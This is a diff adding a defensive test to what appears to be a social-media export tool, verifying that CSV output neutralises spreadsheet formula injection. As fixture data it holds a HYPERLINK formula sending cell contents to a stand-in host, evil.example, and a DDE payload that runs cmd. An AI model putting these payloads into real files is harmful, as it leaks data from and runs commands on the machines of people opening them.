@@ -146,3 +146,24 @@ def test_a_failure_after_writing_leaves_nothing(world: World, cli, tmp_path: Pat
     result = cli("export", "--query", "sandals", "--format", "pdf", "--output", str(target))
     assert result.code == 1 and "disk is full" in result.err, result
     assert list(tmp_path.glob("*new.pdf*")) == []
+
+
+def test_csv_cells_never_start_a_formula(world: World, cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    """OWASP's CSV injection: a customer's name or words that a spreadsheet
+    would run as a formula are written so that it shows them as text."""
+    import csv
+
+    evil = world.server.add_account("mallory", '=HYPERLINK("http://evil.example/?"&A2,"Refund form")')
+    world.server.post(evil, "@shop -2+3 refunds please")
+    world.server.post(evil, "@shop @SUM(1+1)*cmd|' /C calc'!A0")
+    assert cli("accounts", "add", "mastodon", "--instance", world.url, "--token-stdin", stdin=world.token + "\n").code == 0
+    assert cli("sync", "--once").code == 0
+    out = tmp_path / "all.csv"
+    assert cli("export", "--query", "from:mallory", "--format", "csv", "--output", str(out)).code == 0
+    rows = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
+    assert len(rows) == 2
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+        assert row["author_name"] == "'" + '=HYPERLINK("http://evil.example/?"&A2,"Refund form")'
+    assert {r["text"] for r in rows} == {"'@shop -2+3 refunds please", "'@shop @SUM(1+1)*cmd|' /C calc'!A0"}
